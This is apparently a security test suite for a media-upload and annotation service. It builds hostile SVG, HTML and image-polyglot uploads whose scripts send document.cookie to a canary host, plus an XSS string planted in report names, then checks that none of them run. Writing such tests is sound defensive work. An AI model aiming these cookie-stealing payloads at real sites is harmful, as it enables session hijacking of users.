import sharp from 'sharp';
import type { DrawRow } from '../../src/contracts/rows';
import { ledgerKeys } from '../../src/domain/layout';
import type { Ledger } from '../../src/ledger/port';
import { mediaToken } from '../../src/media/token';
import type { ObjectStore } from '../../src/object-store/port';
import { roundPage } from '../../src/report/round-page';
import { fullReport } from '../report/samples';
import { type MediaRound, mediaRound } from '../server/support/media-round';
import { MEDIA_KEYS, startTestServer, type TestServer } from '../server/support/running-server';
import { openTestLoops } from '../server/support/test-loops';
import { type Canary, startCanary } from './canary';
import { type Chromium, startChromium } from './chromium';
import { promise } from './promises';
import { tally } from './tally';

/** What calls home however it is got to run, under a name by which it is known there. */
function hostileUploads(home: string): Record<string, Buffer> {
  const call = (name: string): string =>
    `document.title="owned";new Image().src="${home}/home?${name}!"+encodeURIComponent(document.cookie)`;
  const svg = (name: string): string =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload='${call(name)}'><script>${call(name)}</script><rect width="9" height="9"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="${home}/home?${name}-image" onerror='${call(name)}'/></body></foreignObject></svg>`;
  const html = (name: string): string =>
    `<!doctype html><html><head><meta http-equiv="refresh" content="1;url=${home}/home?${name}-refresh"></head><body><script>${call(name)}</script><img src="${home}/home?${name}-image"><link rel="stylesheet" href="${home}/home?${name}-style"></body></html>`;
  const magic = (hex: string, rest: string): Buffer => Buffer.concat([Buffer.from(hex, 'hex'), Buffer.from(rest)]);
  return {
    svg: Buffer.from(svg('svg')),
    'declared svg': Buffer.from(`<?xml version="1.0"?>\n${svg('declared')}`),
    html: Buffer.from(html('html')),
    'html after spaces': Buffer.from(`\n\n   ${html('spaces')}`),
    xhtml: Buffer.from(`<html xmlns="http://www.w3.org/1999/xhtml"><script>${call('xhtml')}</script></html>`),
    script: Buffer.from(call('script')),
    style: Buffer.from(`body { background: url("${home}/home?style") }`),
    'gif and script': Buffer.from(`GIF89a=1;${call('gif')}//${html('gif')}`),
    'jpeg and html': magic('ffd8ffe000104a464946', html('jpeg')),
    'png and html': magic('89504e470d0a1a0a', html('png')),
    'bmp and html': Buffer.from(`BM${html('bmp')}`),
    'pdf and html': Buffer.from(`%PDF-1.7\n${html('pdf')}`),
    mhtml: Buffer.from(
      `MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=x\r\n\r\n--x\r\nContent-Type: text/html\r\n\r\n${html('mhtml')}\r\n--x--`,
    ),
  };
}

/** Fields that hold what an uploader, a trainer or a loop file called something. */
const NAMED = new Set(['name', 'modelVersion', 'against', 'slice', 'says', 'estimand', 'loop']);

/** The same with `name` behind every such field. */
function renamed<T>(value: T, name: string): T {
  const of = (given: unknown): unknown => {
    if (Array.isArray(given)) return given.map(of);
    if (typeof given !== 'object' || given === null) return given;
    return Object.fromEntries(
      Object.entries(given).map(([key, inner]) => [
        key,
        NAMED.has(key) && typeof inner === 'string' ? `${inner} ${name}` : of(inner),
      ]),
    );
  };
  return of(value) as T;
}

describe(promise(9), () => {
  let chromium: Chromium;
  let canary: Canary;
  let store: ObjectStore;
  let ledger: Ledger;
  let server: TestServer;
  let round: MediaRound;
  let closeLoops: () => Promise<void>;
  let uploads: Record<string, Buffer>;
  const rows = new Map<string, DrawRow>();

  beforeAll(async () => {
    chromium = await startChromium('MAP evil.example 127.0.0.1');
    canary = await startCanary();
    uploads = hostileUploads(canary.origin);
    ({ store, ledger, close: closeLoops } = await openTestLoops());
    server = await startTestServer({ store, loops: { food11: { ledger } }, labelStudioOrigins: [canary.origin] });
    round = await mediaRound(store, ledger);
    const picture = await sharp({ create: { width: 40, height: 30, channels: 3, background: '#3a7' } })
      .png()
      .toBuffer();
    for (const [what, bytes] of Object.entries({ ...uploads, picture })) {
      rows.set(what, await round.upload(`${what}.html`, bytes, what.includes('svg') ? 'image/svg+xml' : 'text/html'));
    }
    await round.draw([...rows.values()]);
  });
  afterAll(async () => {
    await chromium?.close();
    await server?.close();
    await closeLoops?.();
    await canary?.close();
  });
  beforeEach(() => canary.forget());

  const link = (what: string): string =>
    `${server.publicUrl}/media/${mediaToken(MEDIA_KEYS[0], { round: round.round, itemId: rows.get(what)?.itemId ?? '' })}`;
  const presigned = (what: string): Promise<string> => {
    const { bucket, key } = rows.get(what) ?? { bucket: '', key: '' };
    return store.presignGet({ bucket, key }, 600);
  };
  /** As somebody who is signed in and clicks on a link: where it is saved, he stays on his page. */
  const follow = (what: string, url: string): Promise<string> =>
    chromium.open(
      canary.page(
        `/link/${encodeURIComponent(what)}`,
        `signed in<script>location.href = ${JSON.stringify(url)}</script>`,
      ),
    );
  /** A page that says how many pictures it shows, and what it is called in the end. */
  const pageWith = (path: string, content: string): string =>
    canary.page(
      path,
      `<!doctype html><title>untouched</title>${content}<script>
      const shown = () => [...document.images].filter((image) => image.naturalWidth === 40).length;
      onload = () => document.body.append('shows ' + shown() + ' and is ' + document.title);
      </script>`,
    );
  const embedded = (url: string): string =>
    `<img src="${url}"><img crossorigin="anonymous" src="${url}"><iframe src="${url}"></iframe><object data="${url}"></object>
    <embed src="${url}"><script src="${url}"></script><link rel="stylesheet" href="${url}"><video src="${url}"></video>`;

  test('the canary hears what runs where nothing is done about it', async () => {
    for (const [what, type] of [
      ['svg', 'image/svg+xml'],
      ['html', 'text/html'],
      ['jpeg and html', 'text/html'],
    ] as const) {
      canary.forget();
      await chromium.open(canary.page(`/${encodeURIComponent(what)}`, uploads[what] ?? '', type));
      expect([what, canary.calls.some((call) => call.includes('session%3Dof-somebody'))]).toEqual([what, true]);
    }
  });

  test('nothing that was uploaded runs or calls anywhere when its link is opened, and a picture is shown', async () => {
    const pages = await Promise.all(Object.keys(uploads).map((what) => follow(what, link(what))));
    expect(canary.calls).toEqual([]);
    for (const page of pages) expect(page).not.toContain('owned');
    tally(9, 'uploads opened in Chromium', pages.length);
    expect(await follow('picture', link('picture'))).toContain('<img');
  });

  test('nor in a page of Label Studio, as whatever it is embedded there', async () => {
    const hostile = Object.keys(uploads);
    const page = await chromium.open(
      pageWith('/task', [...hostile, 'picture'].map((what) => embedded(link(what))).join('')),
      8,
    );
    expect(canary.calls).toEqual([]);
    expect(page).toContain('shows 2 and is untouched');
    tally(9, 'uploads embedded in Chromium', hostile.length);
  });

  test('what a presigned URL opens is saved, not run, and a picture is shown', async () => {
    const pages = await Promise.all(
      Object.keys(uploads).map(async (what) => [what, await follow(what, await presigned(what))] as const),
    );
    expect(canary.calls).toEqual([]);
    for (const [what, page] of pages) expect([what, page.includes('signed in')]).toEqual([what, true]);
    tally(9, 'uploads opened in Chromium', pages.length);
    const address = (await presigned('picture')).replaceAll('&', '&amp;');
    expect(await chromium.open(pageWith('/presigned', `<img src="${address}">`))).toContain('shows 1 and is untouched');
  });

  test("a report with names made to harm shows them, runs nothing and calls nowhere; a stranger's name for it shows nothing", async () => {
    const harm = `</text></svg></script><script>new Image().src="${canary.origin}/home?report"</script><img src="${canary.origin}/home?image" onerror=alert(1)>"'><style>*{background:url(${canary.origin}/home?css)}</style>`;
    const id = 'food11-round-2026-11-21T02:05:29Z';
    const report = roundPage(renamed(fullReport(), harm), new Map());
    await ledger.createText(ledgerKeys.report(id, 1), report, 'text/html');
    const url = `${server.operatorsUrl}/rounds/${encodeURIComponent(id)}/report`;
    const page = await chromium.open(url, 4);
    expect(page).toContain('Accuracy in production');
    expect(page).toContain('&lt;script&gt;new Image()');
    expect(canary.calls).toEqual([]);

    const refused = await chromium.open(url.replace('127.0.0.1', 'evil.example'));
    expect(refused).toContain('ANNOLOOP_OPERATOR_HOSTS');
    expect(refused).not.toContain('Accuracy in production');
  });
});
